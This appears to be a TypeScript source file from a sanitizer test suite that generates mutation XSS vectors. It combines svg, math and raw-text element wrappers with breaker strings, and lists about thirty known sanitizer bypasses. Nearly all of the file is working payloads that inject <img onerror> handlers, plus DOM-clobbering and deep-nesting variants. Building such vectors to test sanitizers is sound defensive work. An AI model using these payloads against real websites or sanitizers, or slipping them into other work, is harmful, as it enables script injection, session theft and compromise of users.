import { product, run, vectors, type Vector } from "./vector.ts";

/**
 * Mutation: markup that means one thing to the program that cleans it and another to the browser that reads what came out, because
 * elements change how text inside of them is read (raw text, foreign namespaces, tables, forms within forms).
 */
const WRAPPERS: readonly ((inner: string) => string)[] = [
  (inner) => `<svg>${inner}`,
  (inner) => `<math>${inner}`,
  (inner) => `<math><mtext>${inner}`,
  (inner) => `<math><mtext><table><mglyph>${inner}`,
  (inner) => `<math><mi><mglyph>${inner}`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}`,
  (inner) => `<math><annotation-xml>${inner}`,
  (inner) => `<svg><desc>${inner}`,
  (inner) => `<svg><title>${inner}`,
  (inner) => `<svg><foreignObject>${inner}`,
  (inner) => `<svg><foreignobject><math>${inner}`,
  (inner) => `<svg></p>${inner}`,
  (inner) => `<math></br>${inner}`,
  (inner) => `<form><math><mtext></form><form><mglyph>${inner}`,
  (inner) => `<form><div></form><form>${inner}`,
  (inner) => `<table><tr><td><svg></table>${inner}`,
  (inner) => `<table><caption><math>${inner}`,
  (inner) => `<select><template>${inner}`,
  (inner) => `<select><keygen>${inner}`,
  (inner) => `<noscript>${inner}`,
  (inner) => `<template>${inner}`,
  (inner) => `<xmp>${inner}`,
  (inner) => `<iframe>${inner}`,
  (inner) => `<noembed>${inner}`,
  (inner) => `<noframes>${inner}`,
  (inner) => `<textarea>${inner}`,
  (inner) => `<title>${inner}`,
  (inner) => `<style>${inner}`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<listing>&lt;${inner}`,
  (inner) => `<option><style>${inner}`,
  (inner) => `<a><table><a>${inner}`,
  (inner) => `<p><svg><p>${inner}`,
  (inner) => `<object><svg>${inner}`,
];

const BREAKERS: readonly ((script: string) => string)[] = [
  (script) => `<style><img src=x onerror="${script}"></style>`,
  (script) => `<style><a id="</style><img src=x onerror='${script.replaceAll("'", "&#39;")}'>"></style>`,
  (script) => `<style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;" src=x onerror="${script}">`,
  (script) =>
    `<!--</style></title></textarea></noscript></xmp></iframe></noembed></noframes><img src=x onerror="${script}">-->`,
  (script) =>
    `<p title="</style></title></textarea></noscript></xmp></iframe></noembed></noframes><img src=x onerror=${script}>">`,
  (script) => `<![CDATA[</style></title></textarea><img src=x onerror="${script}">]]>`,
  (script) => `<textarea><a title="</textarea><img src=x onerror=${script}>"></textarea>`,
  (script) => `<title><a title="</title><img src=x onerror=${script}>"></title>`,
  (script) => `<mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${script}&gt;">`,
  (script) => `<malignmark><style><img src=x onerror="${script}"></style>`,
  (script) => `<path d="</path><img src=x onerror=${script}>"><img src=x onerror="${script}">`,
  (script) => `<?x </style><img src=x onerror="${script}"> ?><img src=x onerror="${script}">`,
  (script) => `<script>/*</style></title></textarea></xmp>*/${script}</script>`,
];

const wrapped = vectors(
  "mutation",
  "run",
  product(WRAPPERS, BREAKERS).map(
    ([wrapper, breaker]) =>
      (id: string) =>
        wrapper(breaker(run(id))),
  ),
);

/** Ways around well-known cleaners, each of which was one for some version of them. */
const known = vectors("bypass", "run", [
  (id) => `<svg></p><style><a id="</style><img src=1 onerror=${run(id)}>">`,
  (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(id)}&gt;">`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run(id)}">`,
  (id) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror="${run(id)}">">`,
  (id) => `<noscript><style></noscript><img src=x onerror="${run(id)}"></style></noscript>`,
  (id) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror="${run(id)}">"></svg>`,
  (id) => `<a/href="x"/"><img/src="x"/onerror="${run(id)}">`,
  (id) => `<img src="x\`<!--\`" onerror="${run(id)}">`,
  (id) => `<img alt="\`\`onerror=${run(id)}" src=x onerror="${run(id)}">`,
  (id) => `<div id="x"><!--[if IE]><img src=x onerror="${run(id)}"><![endif]--></div><img src=x onerror="${run(id)}">`,
  (id) => `<listing>&lt;img onerror="${run(id)}" src=x&gt;</listing><img src=x onerror="${run(id)}">`,
  (id) => `<style><style/><img src=x onerror="${run(id)}">`,
  (id) => `<option><style></option></select><b><img src=x onerror="${run(id)}"></style></option>`,
  (id) => `<math><xss><mtext><script>${run(id)}</script></mtext></xss></math>`,
  (id) =>
    `<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${run(id)}>"></desc></xss></svg><img src=x onerror="${run(id)}">`,
  (id) => `<form id=f><input name=attributes><input name=innerHTML><img src=x onerror="${run(id)}"></form>`,
  (id) => `<form id=f onfocus="${run(id)}" tabindex=0 autofocus><input name=parentNode><input name=removeChild></form>`,
  (id) => `<p id="</p><img src=x onerror=${run(id)}>"></p><img src=x onerror="${run(id)}">`,
  (id) => `<table><td><table><td><svg><style><img src=x onerror="${run(id)}">`,
  (id) => `<b>${"<div>".repeat(600)}<svg><style><img src=x onerror="${run(id)}"></style></svg>`,
  (id) => `${"<b>".repeat(520)}<math><mtext><style><img src=x onerror="${run(id)}"></style>`,
  (id) => `<img src=x ${"a ".repeat(200)} onerror="${run(id)}">`,
  (id) => `<<img src=x onerror="${run(id)}">`,
  (id) => `<img src=x onerror="${run(id)}"`,
  (id) => `<img src=x onerror="${run(id)}" <b>`,
  (id) => `<div style="font-family:'</style><img src=x onerror=${run(id)}>'"><img src=x onerror="${run(id)}">`,
  (id) => `<style>p{font-family:'</style><img src=x onerror="${run(id)}">'}</style>`,
  (id) => `<style>/*</style><img src=x onerror="${run(id)}">*/</style>`,
  (id) => `<style>@media print { </style><img src=x onerror="${run(id)}">`,
  (id) => `<style>\\3c/style><img src=x onerror="${run(id)}"></style><img src=x onerror="${run(id)}">`,
]);

export const mutationVectors: readonly Vector[] = [...wrapped, ...known];
